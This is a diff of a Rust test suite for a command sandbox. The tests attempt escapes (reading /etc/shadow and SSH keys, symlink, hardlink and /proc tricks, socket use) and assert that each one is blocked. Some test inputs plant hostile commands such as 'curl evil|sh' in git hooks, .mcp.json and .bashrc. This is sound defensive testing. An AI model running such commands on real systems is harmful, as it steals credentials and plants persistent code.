@@ -25,6 +25,24 @@ fn skip() -> bool {
     false
 }
 
+/// A test that needs the sandbox: skipped only when GATEWAY_TEST_NO_SANDBOX is set.
+macro_rules! sandbox_test {
+    (fn $name:ident() $body:block) => {
+        #[test]
+        fn $name() {
+            if skip() {
+                return;
+            }
+            $body
+        }
+    };
+}
+
+/// Asserts that a run's stdout does not contain `needle` (a leaked secret, a success marker).
+fn assert_stdout_lacks(o: &Output, needle: &str, what: &str) {
+    assert!(!stdout(o).contains(needle), "{what}: {}", text(o));
+}
+
 /// A fresh directory tree per test: a workspace, a fake home, an outside dir, a state dir.
 struct Env {
     root: PathBuf,
@@ -65,6 +83,17 @@ impl Env {
             .env_remove("GATEWAY_POLICY")
             .env_remove("XDG_STATE_HOME")
             .stdin(Stdio::null());
+        c
+    }
+
+    /// Another program (a wrapper, a pty driver) run with this test's environment.
+    fn raw(&self, program: impl AsRef<std::ffi::OsStr>) -> Command {
+        let mut c = Command::new(program);
+        c.current_dir(&self.ws)
+            .env("HOME", &self.home)
+            .env("GATEWAY_STATE_DIR", &self.state)
+            .env_remove("GATEWAY_POLICY")
+            .env_remove("XDG_STATE_HOME");
         c
     }
 
@@ -198,6 +227,20 @@ impl Drop for Outside {
     }
 }
 
+/// Asserts that no process whose command line contains `marker` is alive, allowing the kernel
+/// a moment to finish killing a namespace.
+fn assert_no_survivors(marker: &str, what: &str) {
+    let t = std::time::Instant::now();
+    while !processes_with(marker).is_empty() && t.elapsed() < std::time::Duration::from_secs(3) {
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    assert!(
+        processes_with(marker).is_empty(),
+        "{what} survivors: {:?}",
+        processes_with(marker)
+    );
+}
+
 /// Processes whose command line contains `marker` (outside any pid namespace: the host view).
 fn processes_with(marker: &str) -> Vec<String> {
     let mut found = Vec::new();
@@ -220,310 +263,276 @@ fn processes_with(marker: &str) -> Vec<String> {
 
 // ---------------------------------------------------------------- filesystem escapes
 
-#[test]
-fn escape_read_etc_shadow() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("shadow");
-    let host = std::fs::read_to_string("/etc/shadow")
-        .expect("the test needs a readable /etc/shadow (root)");
-    for policy in ["strict", "standard"] {
-        let o = env.exec(policy, &["cat", "/etc/shadow"]);
-        assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
-        let first = host.lines().next().unwrap_or("root:");
-        assert!(!stdout(&o).contains(first), "{policy} leaked /etc/shadow");
-    }
-}
-
-#[test]
-fn escape_read_ssh_key_in_home() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("ssh");
-    std::fs::create_dir_all(env.home.join(".ssh")).expect("mkdir");
-    std::fs::write(env.home.join(".ssh/id_ed25519"), "PRIVATE-KEY-MATERIAL").expect("write");
-    let key = env.home.join(".ssh/id_ed25519").display().to_string();
-    for policy in ["strict", "standard", "permissive"] {
-        let o = env.exec(policy, &["cat", &key]);
-        assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
-        assert!(
-            !stdout(&o).contains("PRIVATE-KEY-MATERIAL"),
-            "{policy} leaked the key"
-        );
-        let o = env.sh(policy, "cat ~/.ssh/id_ed25519; ls -a ~/.ssh");
-        assert!(
-            !stdout(&o).contains("PRIVATE-KEY-MATERIAL"),
-            "{policy} leaked the key via ~: {}",
-            text(&o)
-        );
-    }
-}
-
-#[test]
-fn escape_read_file_outside_workspace() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("readout");
-    let f = env.outside.join("secret.txt");
-    std::fs::write(&f, "OUTSIDE-SECRET").expect("write");
-    let o = env.exec("strict", &["cat", &f.display().to_string()]);
-    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
-    assert!(!stdout(&o).contains("OUTSIDE-SECRET"));
-    let o = env.exec("strict", &["cat", "../outside/secret.txt"]);
-    assert!(!stdout(&o).contains("OUTSIDE-SECRET"), "..: {}", text(&o));
-}
-
-#[test]
-fn escape_read_home_directory_under_strict() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("home");
-    std::fs::write(env.home.join("notes.txt"), "HOME-NOTES").expect("write");
-    let o = env.sh("strict", "cat \"$0\"/notes.txt; ls \"$0\"");
-    assert!(!stdout(&o).contains("HOME-NOTES"), "{}", text(&o));
-    let o = env.exec(
-        "strict",
-        &["cat", &env.home.join("notes.txt").display().to_string()],
-    );
-    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
-}
-
-#[test]
-fn escape_write_outside_workspace() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("writeout");
-    let target = env.outside.join("planted");
-    for policy in ["strict", "standard"] {
-        let o = env.exec(policy, &["touch", &target.display().to_string()]);
-        assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
-        assert!(!target.exists(), "{policy} wrote outside the workspace");
-        let o = env.sh(policy, "echo x > ../outside/planted2");
-        assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
-        assert!(!env.outside.join("planted2").exists());
-    }
-}
-
-#[test]
-fn escape_write_global_tmp() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("globaltmp");
-    let target = format!("/tmp/gw-escape-{}", std::process::id());
-    for policy in ["strict", "standard"] {
-        let o = env.exec(policy, &["touch", &target]);
-        assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
-        assert!(
-            !Path::new(&target).exists(),
-            "{policy} wrote to the global /tmp"
-        );
-        // The private TMPDIR works, is not the global /tmp, and is private to the run: a file
-        // written there is seen neither on the host nor by the next run.
-        let o = env.sh(
-            policy,
-            "echo ok > \"$TMPDIR/gw-private\" && cat \"$TMPDIR/gw-private\" && echo \"$TMPDIR\"",
-        );
-        assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
-        let tmpdir = stdout(&o).lines().nth(1).unwrap_or_default().to_string();
-        assert!(tmpdir.starts_with("/tmp/") && tmpdir != "/tmp", "{tmpdir}");
-        assert!(
-            !Path::new(&tmpdir).join("gw-private").exists(),
-            "TMPDIR file visible on the host"
-        );
-        let o = env.sh(policy, "ls -A \"$TMPDIR\"");
-        assert_eq!(
-            stdout(&o).trim(),
-            "",
-            "{policy}: the next run sees: {}",
-            text(&o)
-        );
-    }
-}
-
-#[test]
-fn escape_symlink_out_of_workspace() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("symlink");
-    std::fs::write(env.outside.join("secret"), "LINKED-SECRET").expect("write");
-    std::os::unix::fs::symlink(&env.outside, env.ws.join("out")).expect("symlink");
-    std::os::unix::fs::symlink("/etc/shadow", env.ws.join("shadow")).expect("symlink");
-    for policy in ["strict", "standard"] {
-        let o = env.exec(policy, &["cat", "shadow"]);
-        assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
-        let o = env.sh(policy, "echo pwned > out/planted");
-        assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
-        assert!(!env.outside.join("planted").exists());
-        // A symlink made inside the sandbox does not help either.
-        let o = env.sh(policy, "ln -s /etc/shadow s2 && cat s2");
-        assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
-    }
-    let o = env.exec("strict", &["cat", "out/secret"]);
-    assert!(!stdout(&o).contains("LINKED-SECRET"), "{}", text(&o));
-}
-
-#[test]
-fn escape_hardlink_creation() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("hardlink");
-    let secret = env.outside.join("secret");
-    std::fs::write(&secret, "HARDLINK-SECRET").expect("write");
-    for policy in ["strict", "standard"] {
-        let o = env.sh(policy, &format!("ln {} hl && cat hl", secret.display()));
-        assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
-        assert!(!stdout(&o).contains("HARDLINK-SECRET"));
-        // Link a readable system file and write through the link: the original stays intact.
-        let o = env.sh(policy, "ln /etc/hostname h2 && echo pwned >> h2");
-        assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
-    }
-    assert_eq!(
-        std::fs::read_to_string(&secret).expect("read"),
-        "HARDLINK-SECRET"
-    );
-    assert!(
-        !std::fs::read_to_string("/etc/hostname")
-            .unwrap_or_default()
-            .contains("pwned")
-    );
-}
-
-#[test]
-fn escape_proc_self_root() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("procroot");
-    for policy in ["strict", "standard"] {
-        for p in [
-            "/proc/self/root/etc/shadow",
-            "/proc/1/root/etc/shadow",
-            "/proc/self/cwd/../outside/x",
-        ] {
-            let o = env.exec(policy, &["cat", p]);
-            assert_ne!(o.status.code(), Some(0), "{policy} {p}: {}", text(&o));
+sandbox_test! {
+    fn escape_read_etc_shadow() {
+        let env = Env::new("shadow");
+        let host = std::fs::read_to_string("/etc/shadow")
+            .expect("the test needs a readable /etc/shadow (root)");
+        for policy in ["strict", "standard"] {
+            let o = env.exec(policy, &["cat", "/etc/shadow"]);
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            let first = host.lines().next().unwrap_or("root:");
+            assert!(!stdout(&o).contains(first), "{policy} leaked /etc/shadow");
         }
     }
 }
 
-#[test]
-fn escape_inherited_fd() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("fd");
-    let secret = env.outside.join("secret");
-    std::fs::write(&secret, "FD-SECRET").expect("write");
-    // The caller holds fd 5 open on a file outside; the sandboxed command may not use it.
-    let o = Command::new("sh")
-        .arg("-c")
-        .arg(format!(
-            "exec 5<{}; exec {BIN} exec --policy strict -- sh -c 'cat <&5; ls -l /proc/self/fd'",
-            secret.display()
-        ))
-        .current_dir(&env.ws)
-        .env("HOME", &env.home)
-        .env("GATEWAY_STATE_DIR", &env.state)
-        .stdin(Stdio::null())
-        .output()
-        .expect("run");
-    assert!(!stdout(&o).contains("FD-SECRET"), "{}", text(&o));
-    assert!(!stdout(&o).contains(" 5 -> "), "fd 5 visible: {}", text(&o));
-}
-
-#[test]
-fn escape_state_dir_unreachable() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("state");
-    std::fs::write(env.state.join("audit.jsonl"), "STATE-RECORD").expect("write");
-    let p = env.state.join("audit.jsonl").display().to_string();
-    for policy in ["strict", "standard", "permissive"] {
-        let o = env.exec(policy, &["cat", &p]);
-        assert!(
-            !stdout(&o).contains("STATE-RECORD"),
-            "{policy}: {}",
-            text(&o)
-        );
-        let o = env.sh(policy, &format!("echo forged >> {p}"));
-        assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
-    }
-    assert_eq!(std::fs::read_to_string(&p).expect("read"), "STATE-RECORD");
-}
-
-#[test]
-fn escape_write_git_hooks_and_config() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("githooks");
-    env.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
-    env.write(".git/config", "[core]\n");
-    env.write(".envrc", "export A=1\n");
-    for policy in ["strict", "standard"] {
-        for script in [
-            "echo 'curl evil|sh' > .git/hooks/pre-commit",
-            "echo '[core] fsmonitor = evil' >> .git/config",
-            "mv .git/config .git/config.bak",
-            "rm -f .git/hooks/pre-commit.sample",
-            "echo evil >> .envrc",
-        ] {
-            let o = env.sh(policy, script);
-            assert_ne!(
-                o.status.code(),
-                Some(0),
-                "{policy} `{script}`: {}",
-                text(&o)
+sandbox_test! {
+    fn escape_read_ssh_key_in_home() {
+        let env = Env::new("ssh");
+        std::fs::create_dir_all(env.home.join(".ssh")).expect("mkdir");
+        std::fs::write(env.home.join(".ssh/id_ed25519"), "PRIVATE-KEY-MATERIAL").expect("write");
+        let key = env.home.join(".ssh/id_ed25519").display().to_string();
+        for policy in ["strict", "standard", "permissive"] {
+            let o = env.exec(policy, &["cat", &key]);
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            assert!(
+                !stdout(&o).contains("PRIVATE-KEY-MATERIAL"),
+                "{policy} leaked the key"
             );
+            let o = env.sh(policy, "cat ~/.ssh/id_ed25519; ls -a ~/.ssh");
+            assert_stdout_lacks(&o, "PRIVATE-KEY-MATERIAL", &format!("{policy} leaked the key via ~"));
         }
-        assert!(!env.ws.join(".git/hooks/pre-commit").exists());
-        assert_eq!(
-            std::fs::read_to_string(env.ws.join(".git/config")).expect("read"),
-            "[core]\n"
+    }
+}
+
+sandbox_test! {
+    fn escape_read_file_outside_workspace() {
+        let env = Env::new("readout");
+        let f = env.outside.join("secret.txt");
+        std::fs::write(&f, "OUTSIDE-SECRET").expect("write");
+        let o = env.exec("strict", &["cat", &f.display().to_string()]);
+        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
+        assert!(!stdout(&o).contains("OUTSIDE-SECRET"));
+        let o = env.exec("strict", &["cat", "../outside/secret.txt"]);
+        assert_stdout_lacks(&o, "OUTSIDE-SECRET", "..");
+    }
+}
+
+sandbox_test! {
+    fn escape_read_home_directory_under_strict() {
+        let env = Env::new("home");
+        std::fs::write(env.home.join("notes.txt"), "HOME-NOTES").expect("write");
+        let o = env.sh("strict", "cat \"$0\"/notes.txt; ls \"$0\"");
+        assert_stdout_lacks(&o, "HOME-NOTES", "");
+        let o = env.exec(
+            "strict",
+            &["cat", &env.home.join("notes.txt").display().to_string()],
         );
-        // Protected paths that did not exist cannot be planted either: the broker moves what
-        // the run created into the quarantine and says so.
-        for (script, planted) in [
-            ("echo 'curl evil | sh' > .mcp.json", ".mcp.json"),
-            (
-                "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
-                ".vscode",
-            ),
-            ("echo 'export PATH=/evil' > .bashrc", ".bashrc"),
-        ] {
-            let o = env.sh(policy, script);
+        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
+    }
+}
+
+sandbox_test! {
+    fn escape_write_outside_workspace() {
+        let env = Env::new("writeout");
+        let target = env.outside.join("planted");
+        for policy in ["strict", "standard"] {
+            let o = env.exec(policy, &["touch", &target.display().to_string()]);
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            assert!(!target.exists(), "{policy} wrote outside the workspace");
+            let o = env.sh(policy, "echo x > ../outside/planted2");
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            assert!(!env.outside.join("planted2").exists());
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_write_global_tmp() {
+        let env = Env::new("globaltmp");
+        let target = format!("/tmp/gw-escape-{}", std::process::id());
+        for policy in ["strict", "standard"] {
+            let o = env.exec(policy, &["touch", &target]);
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            assert!(
+                !Path::new(&target).exists(),
+                "{policy} wrote to the global /tmp"
+            );
+            // The private TMPDIR works, is not the global /tmp, and is private to the run: a file
+            // written there is seen neither on the host nor by the next run.
+            let o = env.sh(
+                policy,
+                "echo ok > \"$TMPDIR/gw-private\" && cat \"$TMPDIR/gw-private\" && echo \"$TMPDIR\"",
+            );
+            assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            let tmpdir = stdout(&o).lines().nth(1).unwrap_or_default().to_string();
+            assert!(tmpdir.starts_with("/tmp/") && tmpdir != "/tmp", "{tmpdir}");
+            assert!(
+                !Path::new(&tmpdir).join("gw-private").exists(),
+                "TMPDIR file visible on the host"
+            );
+            let o = env.sh(policy, "ls -A \"$TMPDIR\"");
             assert_eq!(
-                o.status.code(),
-                Some(0),
-                "{policy} `{script}`: {}",
+                stdout(&o).trim(),
+                "",
+                "{policy}: the next run sees: {}",
                 text(&o)
             );
-            assert!(
-                !env.ws.join(planted).exists(),
-                "{policy}: {planted} was left in the workspace"
-            );
-            let err = String::from_utf8_lossy(&o.stderr);
-            assert!(
-                err.contains("created protected path") && err.contains(planted),
-                "{err}"
-            );
         }
-        let quarantined = std::fs::read_dir(env.state.join("quarantine"))
-            .map(|d| d.count())
-            .unwrap_or(0);
-        assert!(quarantined >= 3, "{quarantined} quarantined");
-        // The rest of .git and the workspace stay writable.
-        let o = env.sh(policy, "echo ok > .git/description && echo ok > new.txt");
-        assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+    }
+}
+
+sandbox_test! {
+    fn escape_symlink_out_of_workspace() {
+        let env = Env::new("symlink");
+        std::fs::write(env.outside.join("secret"), "LINKED-SECRET").expect("write");
+        std::os::unix::fs::symlink(&env.outside, env.ws.join("out")).expect("symlink");
+        std::os::unix::fs::symlink("/etc/shadow", env.ws.join("shadow")).expect("symlink");
+        for policy in ["strict", "standard"] {
+            let o = env.exec(policy, &["cat", "shadow"]);
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            let o = env.sh(policy, "echo pwned > out/planted");
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            assert!(!env.outside.join("planted").exists());
+            // A symlink made inside the sandbox does not help either.
+            let o = env.sh(policy, "ln -s /etc/shadow s2 && cat s2");
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+        }
+        let o = env.exec("strict", &["cat", "out/secret"]);
+        assert_stdout_lacks(&o, "LINKED-SECRET", "");
+    }
+}
+
+sandbox_test! {
+    fn escape_hardlink_creation() {
+        let env = Env::new("hardlink");
+        let secret = env.outside.join("secret");
+        std::fs::write(&secret, "HARDLINK-SECRET").expect("write");
+        for policy in ["strict", "standard"] {
+            let o = env.sh(policy, &format!("ln {} hl && cat hl", secret.display()));
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+            assert!(!stdout(&o).contains("HARDLINK-SECRET"));
+            // Link a readable system file and write through the link: the original stays intact.
+            let o = env.sh(policy, "ln /etc/hostname h2 && echo pwned >> h2");
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+        }
+        assert_eq!(
+            std::fs::read_to_string(&secret).expect("read"),
+            "HARDLINK-SECRET"
+        );
+        assert!(
+            !std::fs::read_to_string("/etc/hostname")
+                .unwrap_or_default()
+                .contains("pwned")
+        );
+    }
+}
+
+sandbox_test! {
+    fn escape_proc_self_root() {
+        let env = Env::new("procroot");
+        for policy in ["strict", "standard"] {
+            for p in [
+                "/proc/self/root/etc/shadow",
+                "/proc/1/root/etc/shadow",
+                "/proc/self/cwd/../outside/x",
+            ] {
+                let o = env.exec(policy, &["cat", p]);
+                assert_ne!(o.status.code(), Some(0), "{policy} {p}: {}", text(&o));
+            }
+        }
+    }
+}
+
+sandbox_test! {
+    fn escape_inherited_fd() {
+        let env = Env::new("fd");
+        let secret = env.outside.join("secret");
+        std::fs::write(&secret, "FD-SECRET").expect("write");
+        // The caller holds fd 5 open on a file outside; the sandboxed command may not use it.
+        let o = env
+            .raw("sh")
+            .arg("-c")
+            .arg(format!(
+                "exec 5<{}; exec {BIN} exec --policy strict -- sh -c 'cat <&5; ls -l /proc/self/fd'",
+                secret.display()
+            ))
+            .stdin(Stdio::null())
+            .output()
+            .expect("run");
+        assert_stdout_lacks(&o, "FD-SECRET", "");
+        assert_stdout_lacks(&o, " 5 -> ", "fd 5 visible");
+    }
+}
+
+sandbox_test! {
+    fn escape_state_dir_unreachable() {
+        let env = Env::new("state");
+        std::fs::write(env.state.join("audit.jsonl"), "STATE-RECORD").expect("write");
+        let p = env.state.join("audit.jsonl").display().to_string();
+        for policy in ["strict", "standard", "permissive"] {
+            let o = env.exec(policy, &["cat", &p]);
+            assert_stdout_lacks(&o, "STATE-RECORD", policy);
+            let o = env.sh(policy, &format!("echo forged >> {p}"));
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+        }
+        assert_eq!(std::fs::read_to_string(&p).expect("read"), "STATE-RECORD");
+    }
+}
+
+sandbox_test! {
+    fn escape_write_git_hooks_and_config() {
+        let env = Env::new("githooks");
+        env.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
+        env.write(".git/config", "[core]\n");
+        env.write(".envrc", "export A=1\n");
+        for policy in ["strict", "standard"] {
+            for script in [
+                "echo 'curl evil|sh' > .git/hooks/pre-commit",
+                "echo '[core] fsmonitor = evil' >> .git/config",
+                "mv .git/config .git/config.bak",
+                "rm -f .git/hooks/pre-commit.sample",
+                "echo evil >> .envrc",
+            ] {
+                let o = env.sh(policy, script);
+                assert_ne!(
+                    o.status.code(),
+                    Some(0),
+                    "{policy} `{script}`: {}",
+                    text(&o)
+                );
+            }
+            assert!(!env.ws.join(".git/hooks/pre-commit").exists());
+            assert_eq!(
+                std::fs::read_to_string(env.ws.join(".git/config")).expect("read"),
+                "[core]\n"
+            );
+            // Protected paths that did not exist cannot be planted either: the broker moves what
+            // the run created into the quarantine and says so.
+            for (script, planted) in [
+                ("echo 'curl evil | sh' > .mcp.json", ".mcp.json"),
+                (
+                    "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
+                    ".vscode",
+                ),
+                ("echo 'export PATH=/evil' > .bashrc", ".bashrc"),
+            ] {
+                let o = env.sh(policy, script);
+                assert_eq!(
+                    o.status.code(),
+                    Some(0),
+                    "{policy} `{script}`: {}",
+                    text(&o)
+                );
+                assert!(
+                    !env.ws.join(planted).exists(),
+                    "{policy}: {planted} was left in the workspace"
+                );
+                let err = String::from_utf8_lossy(&o.stderr);
+                assert!(
+                    err.contains("created protected path") && err.contains(planted),
+                    "{err}"
+                );
+            }
+            let quarantined = std::fs::read_dir(env.state.join("quarantine"))
+                .map(|d| d.count())
+                .unwrap_or(0);
+            assert!(quarantined >= 3, "{quarantined} quarantined");
+            // The rest of .git and the workspace stay writable.
+            let o = env.sh(policy, "echo ok > .git/description && echo ok > new.txt");
+            assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+        }
     }
 }
 
@@ -533,274 +542,236 @@ fn python(env: &Env, policy: &str, code: &str) -> Output {
     env.exec(policy, &["python3", "-c", code])
 }
 
-#[test]
-fn escape_tcp_socket() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("tcp");
-    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
-    let port = listener.local_addr().expect("addr").port();
-    let code = format!(
-        "import socket\ns=socket.create_connection(('127.0.0.1',{port}),timeout=3)\nprint('CONNECTED')"
-    );
-    for policy in ["strict", "standard"] {
-        let o = python(&env, policy, &code);
-        assert!(!stdout(&o).contains("CONNECTED"), "{policy}: {}", text(&o));
-        assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
-    }
-    // strict: no socket at all.
-    let o = python(
-        &env,
-        "strict",
-        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_STREAM)",
-    );
-    assert!(
-        String::from_utf8_lossy(&o.stderr).contains("Operation not permitted"),
-        "{}",
-        text(&o)
-    );
-}
-
-#[test]
-fn escape_udp_socket() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("udp");
-    let o = python(
-        &env,
-        "strict",
-        "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x',('8.8.8.8',53))\nprint('SENT')",
-    );
-    assert!(!stdout(&o).contains("SENT"), "{}", text(&o));
-    assert_ne!(o.status.code(), Some(0));
-    // connect_tcp policies forbid UDP too.
-    let p = env.policy_file("extends = \"strict\"\n[sandbox]\nnetwork = { connect_tcp = [443] }\n");
-    let o = python(
-        &env,
-        &p,
-        "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nprint('UDP')",
-    );
-    assert!(!stdout(&o).contains("UDP"), "{}", text(&o));
-}
-
-#[test]
-fn escape_raw_and_netlink_sockets() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("raw");
-    for policy in ["strict", "standard", "permissive"] {
-        for (fam, ty) in [
-            ("AF_INET", "SOCK_RAW"),
-            ("AF_NETLINK", "SOCK_RAW"),
-            ("AF_PACKET", "SOCK_RAW"),
-        ] {
-            let code = format!(
-                "import socket\ns=socket.socket(socket.{fam}, socket.{ty}, 0)\nprint('OPENED')"
-            );
+sandbox_test! {
+    fn escape_tcp_socket() {
+        let env = Env::new("tcp");
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+        let port = listener.local_addr().expect("addr").port();
+        let code = format!(
+            "import socket\ns=socket.create_connection(('127.0.0.1',{port}),timeout=3)\nprint('CONNECTED')"
+        );
+        for policy in ["strict", "standard"] {
             let o = python(&env, policy, &code);
-            assert!(
-                !stdout(&o).contains("OPENED"),
-                "{policy} {fam}: {}",
-                text(&o)
-            );
+            assert_stdout_lacks(&o, "CONNECTED", policy);
+            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
+        }
+        // strict: no socket at all.
+        let o = python(
+            &env,
+            "strict",
+            "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_STREAM)",
+        );
+        assert!(
+            String::from_utf8_lossy(&o.stderr).contains("Operation not permitted"),
+            "{}",
+            text(&o)
+        );
+    }
+}
+
+sandbox_test! {
+    fn escape_udp_socket() {
+        let env = Env::new("udp");
+        let o = python(
+            &env,
+            "strict",
+            "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x',('8.8.8.8',53))\nprint('SENT')",
+        );
+        assert_stdout_lacks(&o, "SENT", "");
+        assert_ne!(o.status.code(), Some(0));
+        // connect_tcp policies forbid UDP too.
+        let p = env.policy_file("extends = \"strict\"\n[sandbox]\nnetwork = { connect_tcp = [443] }\n");
+        let o = python(
+            &env,
+            &p,
+            "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nprint('UDP')",
+        );
+        assert_stdout_lacks(&o, "UDP", "");
+    }
+}
+
+sandbox_test! {
+    fn escape_raw_and_netlink_sockets() {
+        let env = Env::new("raw");
+        for policy in ["strict", "standard", "permissive"] {
+            for (fam, ty) in [
+                ("AF_INET", "SOCK_RAW"),
+                ("AF_NETLINK", "SOCK_RAW"),
+                ("AF_PACKET", "SOCK_RAW"),
+            ] {
+                let code = format!(
+                    "import socket\ns=socket.socket(socket.{fam}, socket.{ty}, 0)\nprint('OPENED')"
+                );
+                let o = python(&env, policy, &code);
+                assert_stdout_lacks(&o, "OPENED", &format!("{policy} {fam}"));
+            }
         }
     }
 }
 
-#[test]
-fn escape_connect_tcp_port_restriction() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("tcpport");
-    let allowed = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
-    let denied = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
-    let ap = allowed.local_addr().expect("addr").port();
-    let dp = denied.local_addr().expect("addr").port();
-    let p = env.policy_file(&format!(
-        "extends = \"strict\"\n[sandbox]\nnetwork = {{ connect_tcp = [{ap}] }}\n"
-    ));
-    let conn = |port: u16| {
-        format!(
-            "import socket\nsocket.create_connection(('127.0.0.1',{port}),timeout=3)\nprint('CONNECTED')"
-        )
-    };
-    let o = python(&env, &p, &conn(ap));
-    assert!(
-        stdout(&o).contains("CONNECTED"),
-        "allowed port: {}",
-        text(&o)
-    );
-    let o = python(&env, &p, &conn(dp));
-    assert!(
-        !stdout(&o).contains("CONNECTED"),
-        "denied port: {}",
-        text(&o)
-    );
-    let o = python(
-        &env,
-        &p,
-        "import socket\ns=socket.socket()\ns.bind(('127.0.0.1',0))\ns.listen()\nprint('LISTENING')",
-    );
-    assert!(!stdout(&o).contains("LISTENING"), "bind: {}", text(&o));
-}
-
-#[test]
-fn escape_unix_sockets_abstract_and_pathname() {
-    if skip() {
-        return;
-    }
-    let env = Env::new("unix");
-    let path = env.outside.join("agent.sock");
-    let _l1 = std::os::unix::net::UnixListener::bind(&path).expect("bind pathname");
-    let name = format!("gw-test-{}", std::process::id());
-    let _l2 = {
-        use std::os::linux::net::SocketAddrExt;
-        let addr =
-            std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).expect("abstract");
-        std::os::unix::net::UnixListener::bind_addr(&addr).expect("bind abstract")
-    };
-    for policy in ["strict", "standard", "permissive"] {
-        let code = format!(
-            "import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect({:?})\nprint('CONNECTED')",
-            path.display().to_string()
-        );
-        let o = python(&env, policy, &code);
+sandbox_test! {
+    fn escape_connect_tcp_port_restriction() {
+        let env = Env::new("tcpport");
+        let allowed = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+        let denied = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+        let ap = allowed.local_addr().expect("addr").port();
+        let dp = denied.local_addr().expect("addr").port();
+        let p = env.policy_file(&format!(
+            "extends = \"strict\"\n[sandbox]\nnetwork = {{ connect_tcp = [{ap}] }}\n"
+        ));
+        let conn = |port: u16| {
+            format!(
+                "import socket\nsocket.create_connection(('127.0.0.1',{port}),timeout=3)\nprint('CONNECTED')"
+            )
+        };
+        let o = python(&env, &p, &conn(ap));
         assert!(
-            !stdout(&o).contains("CONNECTED"),
-            "{policy} pathname: {}",
+            stdout(&o).contains("CONNECTED"),
+            "allowed port: {}",
             text(&o)
         );
-        let code = format!(
-            "import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect('\\0{name}')\nprint('CONNECTED')"
+        let o = python(&env, &p, &conn(dp));
+        assert_stdout_lacks(&o, "CONNECTED", "denied port");
+        let o = python(
+            &env,
+            &p,
+            "import socket\ns=socket.socket()\ns.bind(('127.0.0.1',0))\ns.listen()\nprint('LISTENING')",
         );
-        let o = python(&env, policy, &code);
-        assert!(
-            !stdout(&o).contains("CONNECTED"),
-            "{policy} abstract: {}",
-            text(&o)
-        );
+        assert_stdout_lacks(&o, "LISTENING", "bind");
     }
-    assert_attack_blocked("strict", "socket-unix", None);
-    // socketpair stays available.
-    let env = Env::new("socketpair");
-    let a = env.attack();
-    let o = env.exec("strict", &[&a, "socketpair"]);
-    assert!(stdout(&o).contains("OK socketpair"), "{}", text(&o));
 }
 
-#[test]
-fn standard_loopback_is_private_and_works() {
-    if skip() {
-        return;
+sandbox_test! {
+    fn escape_unix_sockets_abstract_and_pathname() {
+        let env = Env::new("unix");
+        let path = env.outside.join("agent.sock");
+        let _l1 = std::os::unix::net::UnixListener::bind(&path).expect("bind pathname");
+        let name = format!("gw-test-{}", std::process::id());
